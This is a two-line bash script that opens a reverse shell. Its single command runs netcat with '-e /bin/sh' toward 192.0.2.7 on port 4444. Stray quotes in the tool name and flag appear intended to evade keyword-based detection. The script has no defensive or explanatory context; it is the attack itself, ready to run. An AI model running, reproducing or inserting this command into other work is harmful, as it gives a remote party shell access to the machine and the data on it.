#!/bin/bash
n''c -"e" /bin/sh 192.0.2.7 4444
